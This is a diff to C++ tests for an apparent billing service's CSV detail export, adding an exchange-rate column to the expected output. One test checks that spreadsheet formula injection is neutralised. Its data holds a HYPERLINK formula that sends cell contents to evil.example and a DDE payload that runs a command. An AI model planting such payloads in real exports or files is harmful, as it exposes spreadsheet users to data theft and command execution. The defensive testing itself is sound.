@@ -175,10 +175,11 @@ TEST_P(BillingTest, EstimatesWithEitherTokenKindAndOnlyForTheOwner) {
   auto detail = Get("/api/v1/billing/ACME/detail.csv?month=" + month.ToString(), acme);
   ASSERT_EQ(detail.status, 200);
   EXPECT_EQ(detail.body.substr(0, detail.body.find("\r\n")),
-            "AzureSubscriptionId,MeterCategory,Day,Quantity,Charge,Currency,BilledCharge");
+            "AzureSubscriptionId,MeterCategory,Day,Quantity,Charge,Currency,PCToBCExchangeRate,"
+            "BilledCharge");
   if (today >= 2) {
     EXPECT_NE(detail.body.find("sub-a,\"Virtual Machines, Linux\"," + month.ToString() +
-                               "-02,3,1.5,USD,1.50\r\n"),
+                               "-02,3,1.5,USD,1,1.50\r\n"),
               std::string::npos)
         << detail.body;
   }
@@ -200,16 +201,17 @@ TEST_P(BillingTest, DetailCsvNeutralisesFormulasFromUsageFilesAndKeepsNumbers) {
   auto detail = Get("/api/v1/billing/ACME/detail.csv?month=2025-03", Login("admin@acme.example"));
   ASSERT_EQ(detail.status, 200) << detail.body;
   EXPECT_EQ(detail.body,
-            "AzureSubscriptionId,MeterCategory,Day,Quantity,Charge,Currency,BilledCharge\r\n"
+            "AzureSubscriptionId,MeterCategory,Day,Quantity,Charge,Currency,PCToBCExchangeRate,"
+            "BilledCharge\r\n"
             // (rows in subscription, category, day order; BilledCharge sums to the month's
             // rounded total, 7.625 -> 7.63: the largest remainder, 2.625, gets the cent)
-            "sub-a,\"'\t=1\",2025-03-05,1,1,USD,1.00\r\n"
-            "sub-a,\"'+1+1\",2025-03-03,1,1,USD,1.00\r\n"
-            "sub-a,\"'-2+3\",2025-03-04,1,1,USD,1.00\r\n"
+            "sub-a,\"'\t=1\",2025-03-05,1,1,USD,1,1.00\r\n"
+            "sub-a,\"'+1+1\",2025-03-03,1,1,USD,1,1.00\r\n"
+            "sub-a,\"'-2+3\",2025-03-04,1,1,USD,1,1.00\r\n"
             "sub-a,\"'=HYPERLINK(\"\"http://evil.example/"
-            "?\"\"&A1,\"\"Click\"\")\",2025-03-01,2,1.0,USD,1.00\r\n"
-            "sub-a,\"'@SUM(1+1)*cmd|' /C calc'!A0\",2025-03-02,1,1,USD,1.00\r\n"
-            "sub-a,Storage,2025-03-06,10.5,2.625,USD,2.63\r\n");
+            "?\"\"&A1,\"\"Click\"\")\",2025-03-01,2,1.0,USD,1,1.00\r\n"
+            "sub-a,\"'@SUM(1+1)*cmd|' /C calc'!A0\",2025-03-02,1,1,USD,1,1.00\r\n"
+            "sub-a,Storage,2025-03-06,10.5,2.625,USD,1,2.63\r\n");
 }
 
 // Issue 17 over HTTP: snapshot imports, the operator's mapping of kept-aside usage and the
